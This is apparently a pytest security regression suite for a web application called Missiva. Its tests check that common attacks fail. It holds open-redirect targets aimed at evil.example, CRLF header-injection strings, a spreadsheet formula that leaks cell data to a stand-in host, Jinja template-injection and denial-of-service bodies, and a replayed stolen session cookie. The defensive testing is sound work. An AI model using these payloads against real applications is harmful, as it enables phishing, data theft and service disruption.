"""What one person types cannot hurt another, stop the deadline engine, or be lost: each test
here is an attack or a slip found by driving Missiva as users and attackers would."""
from __future__ import annotations

import html
import io
import mailbox
import os
import sqlite3
import time
import zipfile
from datetime import datetime, timedelta
from email.message import EmailMessage
from urllib.parse import urlencode

import pytest
import yaml
from openpyxl import load_workbook

from tasks.periodic import housekeeping
from tasks.reports import compile_report
from workflow import accounts, clock, deadlines, invitations, notifications
from workflow.calls import CallDefinitionError, address, parse
from workflow.db import db
from workflow.models import AuditEvent, Document, OutboxMessage, Report, Submission, User
from workflow.submissions import amend, submit

from . import factories
from .builder_page import Builder, posted
from .conftest import drain
from .test_report import docx_text


def signed_in_mission(client, w):
    client.sign_in("focal@ar.example")
    client.get(f"/portal/calls/{w['call'].id}")
    return f"/portal/calls/{w['call'].id}"


# 1. Redirects -----------------------------------------------------------------------------------

OFFSITE = ["/\t/evil.example/phish", "/\\evil.example", "//evil.example", "https://evil.example/",
           " //evil.example", "/\n/evil.example", "\\\\evil.example"]


@pytest.mark.parametrize("target", OFFSITE)
def test_sign_in_never_sends_the_browser_off_the_site(app, client, target):
    factories.world()
    client.get("/login")
    response = client.post("/login?" + _query(next=target),
                           {"email": "focal@ar.example", "password": factories.PASSWORD})
    assert response.status_code == 302
    location = response.headers["Location"]
    assert location.startswith("/") and not location.startswith("//") and "evil" not in location


def test_language_switch_and_sign_in_link_check_their_target_the_same_way(app, client):
    w = factories.world()
    client.get("/login")
    switched = client.post("/language/es", {"next": "/\t/evil.example"})
    assert switched.headers["Location"] == "/"
    token = invitations.token_for(w["ar"])
    client.get(f"/sign-in/{token}")
    used = client.post(f"/sign-in/{token}?" + _query(next="/\t/evil.example"))
    assert used.status_code == 302 and "evil" not in used.headers["Location"]


def test_line_breaks_in_a_target_are_answered_normally(app, client):
    w = factories.world()
    client.get("/login")
    response = client.post("/login?" + _query(next="/portal/\r\nSet-Cookie: x=1"),
                           {"email": "focal@ar.example", "password": factories.PASSWORD})
    assert response.status_code == 302 and "\n" not in response.headers["Location"]
    url = signed_in_mission(client, w)
    more = client.post(url, factories.answer_form(action="more:experts\r\nSet-Cookie: x=1"))
    assert more.status_code == 302 and "Set-Cookie" not in more.headers["Location"]
    assert factories.submission_of(w["call"], w["ar"]).content["experts"]["experts"][0]["name"] == "María José Núñez"


def _query(**values) -> str:
    return urlencode(values)


# 2, 3, 15. What one mission types cannot break documents or reach a spreadsheet as a formula ---

BAD_NAME = "Bad\uffffName\ufffe\x07"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'


def _submit_with(client, url, **fields):
    response = client.post(url, factories.answer_form(action="submit", **fields))
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    return response


def test_text_is_normalised_on_the_way_in(app, client):
    w = factories.world()
    url = signed_in_mission(client, w)
    client.post(url, factories.answer_form(**{"experts-experts-0-name": "Jose\u0301 " + BAD_NAME,
                                              "agenda-general": "line one\r\nline two\x00"}))
    content = factories.submission_of(w["call"], w["ar"]).content
    assert content["experts"]["experts"][0]["name"] == "José BadName"
    assert content["agenda"]["general"] == "line one\nline two"


def test_documents_survive_text_stored_before_the_rules(app, client, make_client):
    """Receipt, participants list and the consolidated report, on an answer whose stored text
    holds characters XML forbids (written before the normaliser existed)."""
    w = factories.world()
    url = signed_in_mission(client, w)
    _submit_with(client, url, **{"experts-experts-0-phone": FORMULA})
    sub = factories.submission_of(w["call"], w["ar"])
    version = sub.latest_version
    stored = dict(version.content)
    stored["experts"] = {"experts": [{**stored["experts"]["experts"][0], "name": BAD_NAME}]}
    db.session.execute(db.update(type(version)).where(type(version).id == version.id).values(content=stored))
    db.session.commit()

    receipt = client.get(f"{url}/receipt/1.docx")
    assert receipt.status_code == 200
    assert "BadName" in docx_text(receipt.data)  # the experts' table of the receipt

    officer = make_client().sign_in("officer@sec.example")
    listing = officer.get(f"/secretariat/calls/{w['call'].id}/participants.xlsx")
    assert listing.status_code == 200
    sheet = load_workbook(io.BytesIO(listing.data)).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if c.value}
    assert "BadName" in cells and cells[FORMULA].data_type == "s"  # shown as typed, never evaluated
    assert officer.get(f"/secretariat/calls/{w['call'].id}/participants.docx").status_code == 200

    report = Report(call=w["call"], basis="submitted")
    db.session.add(report)
    db.session.commit()
    compile_report.run(report.id)
    db.session.refresh(report)
    assert report.state == "done", report.error
    csv_zip = officer.get(f"/secretariat/reports/{report.id}/download/csv.zip")
    texts = "".join(zipfile.ZipFile(io.BytesIO(csv_zip.data)).read(n).decode("utf-8-sig")
                    for n in zipfile.ZipFile(io.BytesIO(csv_zip.data)).namelist())
    assert "'" + FORMULA.replace('"', '""') in texts and "\n" + FORMULA not in texts


@pytest.mark.parametrize("field,value", [("experts-experts-0-role", "=1+1"),
                                         ("experts-experts-0-role", "delegate" * 2000),
                                         ("agenda-general", "x" * 5001)])
def test_out_of_bounds_values_are_refused_and_kept_on_the_page(app, client, field, value):
    w = factories.world()
    url = signed_in_mission(client, w)
    response = client.post(url, factories.answer_form(**{field: value}))
    page = response.get_data(as_text=True)
    assert response.status_code == 422 and "Nothing was saved" in page
    if field == "agenda-general":
        assert value in page and "Shorten this to 5000 characters" in page
    else:
        assert "Choose one of the options offered." in page
    assert factories.submission_of(w["call"], w["ar"]).state == "not_started"


# 4. Personal links are never shown to others -------------------------------------------------

def test_outbox_and_mail_sink_hide_personal_links_and_resend_mints_a_new_one(app, client, tmp_path):
    w = factories.world()
    notifications.invite(w["call"])
    db.session.commit()
    message = db.session.scalar(db.select(OutboxMessage).filter_by(recipient="focal@ar.example"))
    token = invitations.LINK.search(message.body_text).group(0).split("/sign-in/")[1]
    officer = client.sign_in("officer@sec.example")
    page = officer.get(f"/secretariat/outbox/{message.id}").get_data(as_text=True)
    assert token not in page and "/sign-in/…" in page

    sink = tmp_path / "sink"
    app.config["MAIL_SINK_FOLDER"] = str(sink)
    caught = EmailMessage()
    caught["Subject"], caught["To"] = "Invitation", "focal@ar.example"
    caught.set_content(message.body_text)
    mailbox.Maildir(str(sink), create=True).add(caught)
    assert token not in officer.get("/secretariat/mail-sink").get_data(as_text=True)

    db.session.execute(db.update(OutboxMessage).where(OutboxMessage.id == message.id).values(state="failed"))
    officer.post(f"/secretariat/outbox/{message.id}/resend", {})
    db.session.refresh(message)
    assert message.state == "pending" and token not in message.body_text
    assert invitations.LINK.search(message.body_text)


# 5, 12. One bad value cannot stop the sweep or break the board ---------------------------------

def test_a_call_broken_in_the_database_does_not_stop_the_others(app, client):
    factories.mission("AR")
    factories.mission("BR")
    factories.user("focal@ar.example", mission=factories.mission("AR"))
    factories.user("focal@br.example", mission=factories.mission("BR"))
    factories.user("officer@sec.example", role="officer")
    broken = factories.call_from_file(addressed=["AR"], deadline="2030-10-29 23:59")
    healthy = factories.call_from_file(addressed=["BR"], deadline="2030-10-29 23:59", slug="ciber-vi",
                                       reference="CIBER-VI/doc.1/08")
    db.session.commit()
    db.session.execute(db.text("UPDATE call SET reminders = :r WHERE id = :id"),
                       {"r": '{"days_before": [14, 7, 2], "escalate_from": "abc"}', "id": broken.id})
    db.session.commit()
    db.session.expire_all()

    with clock.frozen_at(datetime(2030, 10, 28, 12)):
        result = deadlines.sweep()
        db.session.commit()
    assert result.failed == [broken.slug] and result.reminders == 1
    assert db.session.scalar(db.select(OutboxMessage.recipient).filter_by(call_id=healthy.id)) == "focal@br.example"
    db.session.refresh(broken)
    assert "escalate_from" in broken.sweep_problem or "abc" in broken.sweep_problem
    board = client.sign_in("officer@sec.example").get(f"/secretariat/calls/{broken.id}")
    assert board.status_code == 200 and "The deadline sweep could not process this call" in board.get_data(as_text=True)


def test_the_board_shows_calls_whose_stored_schedule_or_extension_is_absurd(app, client):
    w = factories.world()
    sub = factories.submission_of(w["call"], w["ar"])
    db.session.execute(db.text("UPDATE call SET reminders = :r"), {"r": '{"days_before": [900000]}'})
    db.session.execute(db.update(Submission).where(Submission.id == sub.id)
                       .values(deadline_override=datetime(1, 1, 1)))
    db.session.commit()
    db.session.expire_all()
    assert client.sign_in("officer@sec.example").get(f"/secretariat/calls/{w['call'].id}").status_code == 200
    assert deadlines.sweep().failed == []


@pytest.mark.parametrize("moment", ["0001-01-01T00:00", "9999-12-31T23:59", "2029-01-01T00:00"])
def test_an_extension_outside_its_window_is_refused_with_a_message(app, client, moment):
    w = factories.world()
    sub = factories.submission_of(w["call"], w["ar"])
    officer = client.sign_in("officer@sec.example")
    officer.get(f"/secretariat/submissions/{sub.id}")
    response = officer.post(f"/secretariat/submissions/{sub.id}/extension", {"deadline": moment})
    assert response.status_code == 422
    assert "after the call's deadline and at most a year later" in html.unescape(response.get_data(as_text=True))
    db.session.refresh(sub)
    assert sub.deadline_override is None


BAD_DEFINITIONS = [
    ({"reminders": {"days_before": 5}}, "reminders.days_before"),
    ({"reminders": {"days_before": [900000]}}, "reminders.days_before"),
    ({"reminders": {"days_before": [3], "escalate_from": "abc"}}, "reminders.escalate_from"),
    ({"contact": "x"}, "contact: must be a mapping"),
    ({"meeting": [1, 2]}, "meeting: must be a mapping"),
    ({"status": "weird"}, "status: one of"),
    ({"language": "x" * 40}, "language: one of"),
    ({"deadline": "9999-12-31 23:59"}, "deadline:"),
    ({"funded_quotas": 2}, "funded_quotas: unknown field"),
    ({"sections": [{"key": "d", "kind": "documents", "title": "D",
                    "documents": [{"key": "r", "label": "R", "max_mb": "abc", "types": 5}]}]},
     "sections[0].documents[0].max_mb"),
    ({"sections": [{"key": "d", "kind": "documents", "title": "D",
                    "documents": [{"key": "r", "label": "R", "types": 5}]}]}, "sections[0].documents[0].types"),
    ({"sections": [{"key": "q", "kind": "questions", "title": "Q",
                    "questions": [{"key": "a", "label": "A", "type": "choice", "choices": 5}]}]},
     "sections[0].questions[0].choices"),
    ({"sections": [{"key": "e", "kind": "nominations", "title": "E", "funded_quotas": 2}]},
     "sections[0].funded_quotas: unknown field (did you mean funded_quota?)"),
]


@pytest.mark.parametrize("change,message", BAD_DEFINITIONS)
def test_every_definition_value_is_checked_and_named(app, change, message):
    data = yaml.safe_load((factories.CALLS / "ciber-v-2007.yaml").read_text(encoding="utf-8"))
    data.update(change)
    with pytest.raises(CallDefinitionError) as caught:
        parse(yaml.safe_dump(data, allow_unicode=True))
    assert any(message in e for e in caught.value.errors), caught.value.errors


def test_a_new_call_in_the_browser_with_a_year_9999_deadline_or_no_translations(app, client):
    factories.world()
    officer = client.sign_in("officer@sec.example")
    page = Builder(officer, "/secretariat/calls/new")
    page.press("remove:0")
    page.press("add:agenda_comments")
    page.fill(slug="gge-2031", reference="GGE/2031", timezone="America/New_York", addressed_all=False,
              addressed=["AR"], deadline="9999-12-31T23:59", **{
                  "title.en": "Group of experts", "sections[0].title.en": "C",
                  "sections[0].items[0].title.en": "Opening"})
    assert page.press("save").status_code == 422 and 'id="f-deadline-error"' in page.html
    assert 'value="Group of experts"' in page.html
    page.fill(deadline="2031-03-01T17:00")
    assert page.press("save").status_code == 302, page.html[:3000]


# 6. Wording that fails for one mission never undoes its submission ------------------------------

JAMAICA_TRAP = "{% if state_name == 'Jamaica' %}{{ nope }}{% endif %}Received {{ receipt_number }}"


def test_broken_own_wording_falls_back_and_the_submission_stands(app, client, make_client, smtp):
    jm = factories.mission("JM")
    factories.user("focal@jm.example", mission=jm)
    factories.user("officer@sec.example", role="officer")
    call = factories.call_from_file(addressed=["JM"], deadline="2030-10-29 23:59")
    call.mail_templates = {"receipt": {"en": {"subject": "Received", "body": JAMAICA_TRAP}}}
    db.session.commit()
    mission = client.sign_in("focal@jm.example")
    url = f"/portal/calls/{call.id}"
    mission.get(url)
    response = mission.post(url, factories.answer_form(action="submit"))
    assert response.status_code == 302 and "/receipt/1" in response.headers["Location"]
    drain()
    mail = smtp.to("focal@jm.example")[0]
    assert "acknowledges receipt" in mail.get_body(("plain",)).get_content()  # the standard wording
    db.session.refresh(call)
    assert "nope" in notifications.broken_wording(call)[0]["problem"]
    board = make_client().sign_in("officer@sec.example").get(f"/secretariat/calls/{call.id}")
    assert "could not be written for a member state" in board.get_data(as_text=True)


@pytest.mark.parametrize("body", [JAMAICA_TRAP, "{{ 1/0 }}", "{{ 10**5000 }}", "{{ 'a'*10000000 }}",
                                  "{% for i in range(10**9) %}x{% endfor %}", "{{ link.__class__ }}",
                                  "{{ state_name|center(100000000) }}"])
def test_wording_that_cannot_be_sent_to_every_mission_is_refused(app, client, body):
    w = factories.world()
    jm = factories.mission("JM")
    address(w["call"], ["JM"])  # the world's call is addressed to AR and BR; add Jamaica
    db.session.commit()
    officer = client.sign_in("officer@sec.example")
    url = f"/secretariat/calls/{w['call'].id}/wording?kind=receipt&language=en"
    officer.get(url)
    started = time.monotonic()
    response = officer.post(url, {"subject": "Received", "body": body, "action": "save"})
    assert time.monotonic() - started < 10
    assert response.status_code == 422 and "This text cannot be used" in response.get_data(as_text=True)
    db.session.refresh(w["call"])
    assert not w["call"].mail_templates and jm.code == "JM"


# 7, 8, 14. Sessions, sign-in cost, links --------------------------------------------------------

def _cookie(client) -> str:
    return client.http.get_cookie("session").value


def test_a_copied_session_cookie_is_dead_after_sign_out_password_change_or_deactivation(app, make_client):
    w = factories.world()
    for end in ("sign_out", "password", "deactivate"):
        first = make_client().sign_in("focal@ar.example")
        copied = _cookie(first)
        thief = make_client()
        thief.http.set_cookie("session", copied)
        assert thief.get("/portal/").status_code == 200
        if end == "sign_out":
            first.post("/logout", {})
        elif end == "password":
            accounts.set_password(w["ar"], factories.PASSWORD)
            db.session.commit()
        else:
            accounts.deactivate(w["ar"], w["admin"])
            db.session.commit()
        assert thief.get("/portal/").status_code == 302
        w["ar"].active = True
        db.session.commit()


def test_unknown_and_known_addresses_cost_the_same_to_check(app, make_client):
    app.config["PASSWORD_HASH_METHOD"] = "pbkdf2:sha256:400000"
    factories.world()
    accounts.set_password(_ar(), "right-password")
    db.session.commit()

    def timed(email):
        client = make_client()
        client.get("/login")
        started = time.perf_counter()
        response = client.post("/login", {"email": email, "password": "wrong-password"})
        assert response.status_code == 422
        return time.perf_counter() - started

    known = min(timed("focal@ar.example") for _ in range(3))
    unknown = min(timed("nobody@ar.example") for _ in range(3))
    assert unknown > known * 0.5, (known, unknown)


def _ar():
    return db.session.scalar(db.select(User).filter_by(email="focal@ar.example"))


def test_each_sign_in_link_works_once_and_on_its_own(app, make_client):
    w = factories.world()
    receipt_link, reminder_link = invitations.token_for(w["ar"]), invitations.token_for(w["ar"])
    for token in (reminder_link, receipt_link):
        client = make_client()
        client.get(f"/sign-in/{token}")
        assert client.post(f"/sign-in/{token}", {}).status_code == 302
    again = make_client()
    assert again.get(f"/sign-in/{receipt_link}").status_code == 410


# 9, 10, 13. Uploads ----------------------------------------------------------------------------

def _with_file(name="report.pdf", data=factories.PDF, **fields):
    return {**factories.answer_form(**fields), "country_report-developments": (io.BytesIO(data), name)}


def test_replaced_and_refused_uploads_are_removed_by_housekeeping(app, client, make_client):
    app.config["UPLOAD_ORPHAN_GRACE_SECONDS"] = 0
    w = factories.world()
    url = signed_in_mission(client, w)
    for lock in range(5):
        client.post(url, _with_file(lock_version=str(lock)), content_type="multipart/form-data")
    conflict = make_client().sign_in("second@ar.example")
    conflict.get(url)
    refused = conflict.post(url, _with_file(lock_version="0"), content_type="multipart/form-data")
    assert refused.status_code == 409
    folder = app.config["UPLOAD_FOLDER"]
    assert len(os.listdir(folder)) == 6 and db.session.scalar(db.select(db.func.count(Document.id))) == 5
    time.sleep(0.05)
    with clock.frozen_at(clock.now() + timedelta(seconds=1)):
        housekeeping.run()
    kept = db.session.scalars(db.select(Document)).all()
    assert len(kept) == 1 and os.listdir(folder) == [kept[0].stored_name]
    assert client.get(f"/portal/documents/{kept[0].id}").status_code == 200
    assert db.session.scalar(db.select(AuditEvent).filter_by(action="documents_removed"))


def test_one_answer_cannot_store_more_than_its_quota(app, client):
    app.config["UPLOAD_QUOTA_MB"] = 1
    w = factories.world()
    url = signed_in_mission(client, w)
    big = factories.PDF + b"0" * 700_000
    client.post(url, _with_file(data=big), content_type="multipart/form-data")
    sub = factories.submission_of(w["call"], w["ar"])
    submit(sub, _ar())  # the first version keeps its document
    amend(sub, _ar())
    db.session.commit()
    response = client.post(url, _with_file(data=big, lock_version=str(sub.lock_version),
                                           **{"agenda-general": "kept text"}), content_type="multipart/form-data")
    page = response.get_data(as_text=True)
    assert "cannot hold more than 1 MB of documents" in page and "kept text" in page
    db.session.refresh(sub)
    assert sub.content["agenda"]["general"] == "kept text"


def test_file_names_with_line_breaks_are_cleaned_and_old_ones_served_safely(app, client):
    w = factories.world()
    url = signed_in_mission(client, w)
    boundary = "----missiva"
    parts = [f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
             for name, value in {**factories.answer_form(), "csrf_token": client.token}.items()]
    body = "".join(parts).encode() + (
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"country_report-developments\"; "
        f"filename*=UTF-8''rep%0D%0Aort%00.pdf\r\nContent-Type: application/pdf\r\n\r\n").encode() \
        + factories.PDF + f"\r\n--{boundary}--\r\n".encode()
    client.post_body(url, body, f"multipart/form-data; boundary={boundary}")
    stored = db.session.scalar(db.select(Document))
    assert stored.original_name == "rep ort.pdf"
    stored.original_name = "old\r\nSet-Cookie: x=1.pdf"
    db.session.commit()
    response = client.get(f"/portal/documents/{stored.id}")
    assert response.status_code == 200 and "\n" not in response.headers["Content-Disposition"]


def test_a_file_above_the_old_request_limit_is_refused_alone_and_the_text_kept(app, client):
    w = factories.world()
    url = signed_in_mission(client, w)
    huge = factories.PDF + b"0" * (61 * 1024 * 1024)
    response = client.post(url, _with_file(data=huge, **{"agenda-general": "typed before the upload"}),
                           content_type="multipart/form-data")
    assert response.status_code == 200
    assert "The file is larger than 10 MB." in response.get_data(as_text=True)
    assert factories.submission_of(w["call"], w["ar"]).content["agenda"]["general"] == "typed before the upload"


# 11. Withdrawing a state -------------------------------------------------------------------------

def test_withdrawing_an_invited_state_keeps_its_history_and_stops_its_reminders(app, client, make_client):
    w = factories.world()
    notifications.invite(w["call"])
    db.session.commit()
    officer = client.sign_in("officer@sec.example")
    edit = f"/secretariat/calls/{w['call'].id}/edit"
    response = officer.post(edit, posted(officer, edit, addressed_all=False, addressed=["AR"]))
    assert response.status_code == 302, response.get_data(as_text=True)[:3000]
    br = factories.submission_of(w["call"], w["br"])
    assert br is not None and br.withdrawn_at is not None
    assert db.session.scalar(db.select(OutboxMessage).filter_by(mission_id=w["br"].id))
    with clock.frozen_at(datetime(2030, 10, 28, 12)):
        deadlines.sweep()
        db.session.commit()
    assert not db.session.scalar(db.select(OutboxMessage).where(
        OutboxMessage.mission_id == w["br"].id, OutboxMessage.kind == "reminder"))
    assert "withdrawn" in officer.get(f"/secretariat/calls/{w['call'].id}").get_data(as_text=True)
    assert w["call"].reference not in make_client().sign_in("focal@br.example").get("/portal/").get_data(as_text=True)


# 16. Reads do not queue behind writes on the embedded default ------------------------------------

@pytest.mark.sqlite_only
def test_a_page_is_read_while_another_process_holds_the_write_lock(app, client):
    reference = factories.world()["call"].reference
    client.sign_in("focal@ar.example")
    path = app.config["SQLALCHEMY_DATABASE_URI"].removeprefix("sqlite:///")
    writer = sqlite3.connect(path, timeout=1, isolation_level=None)
    writer.execute("BEGIN IMMEDIATE")
    try:
        started = time.monotonic()
        page = client.get("/portal/")
        assert page.status_code == 200 and reference in page.get_data(as_text=True)
        assert time.monotonic() - started < 5
    finally:
        writer.execute("ROLLBACK")
        writer.close()


def _someone_writes(path: str, writes: list) -> None:
    """Another process's write to the SQLite file, waiting at most half a second for the lock."""
    other = sqlite3.connect(path, timeout=0.5, isolation_level=None)
    try:
        other.execute("BEGIN IMMEDIATE")  # what a focal point's submission begins with
        other.execute("ROLLBACK")
        writes.append("written")
    finally:
        other.close()


@pytest.mark.sqlite_only
def test_others_can_write_while_a_worker_renders_a_report(app, monkeypatch):
    """Rendering a large report takes tens of seconds: the worker holds no transaction meanwhile,
    or every submission and the sweep would wait behind it on the embedded default."""
    from tasks import reports
    from workflow.models import Report

    w = factories.world()
    row = Report(call=w["call"], basis="submitted")
    db.session.add(row)
    db.session.commit()
    path = app.config["SQLALCHEMY_DATABASE_URI"].removeprefix("sqlite:///")
    writes = []

    def render_while_someone_writes(data):
        _someone_writes(path, writes)
        return b"rendered"

    monkeypatch.setattr(reports, "FORMATS", {"pdf": render_while_someone_writes})
    assert reports.compile_report.run(row.id) == "done"
    assert writes == ["written"]


@pytest.mark.sqlite_only
def test_others_can_write_while_a_worker_waits_for_the_mail_server(app, smtp):
    """A slow mail server holds up the worker, never the focal points: no transaction is open
    during the SMTP exchange."""
    from tasks.mail import deliver_mail
    from workflow import outbox

    message = outbox.queue(key="slow", kind="receipt", recipient="a@x.example", subject="s", text="t")
    db.session.commit()
    path = app.config["SQLALCHEMY_DATABASE_URI"].removeprefix("sqlite:///")
    writes = []

    smtp.during_data = lambda: _someone_writes(path, writes)
    assert deliver_mail.run(message.id) == "sent"
    assert writes == ["written"]
    db.session.refresh(message)
    assert message.state == "sent"


@pytest.mark.sqlite_only
def test_writers_queue_for_the_database_and_all_get_through(app):
    """Several threads writing at once (gunicorn's threads, a worker) each wait their turn and all
    commit; one that gives its connection back mid-transaction lets the others through."""
    import threading

    from workflow.models import AuditEvent

    factories.world()
    db.session.commit()
    done, errors = [], []

    def write(i: int):
        with app.app_context():
            try:
                db.session.add(AuditEvent(action="test.write", actor_label=f"thread {i}"))
                db.session.flush()
                if i % 3 == 0:
                    db.session.remove()  # abandoned: rolled back, its turn handed on
                    return
                db.session.commit()
                done.append(i)
            except Exception as exc:
                errors.append(exc)

    threads = [threading.Thread(target=write, args=(i,)) for i in range(12)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(20)
    assert not errors and not any(t.is_alive() for t in threads)
    assert sorted(done) == [i for i in range(12) if i % 3]
    assert db.session.scalar(db.select(db.func.count()).select_from(AuditEvent)
                             .where(AuditEvent.action == "test.write")) == 8
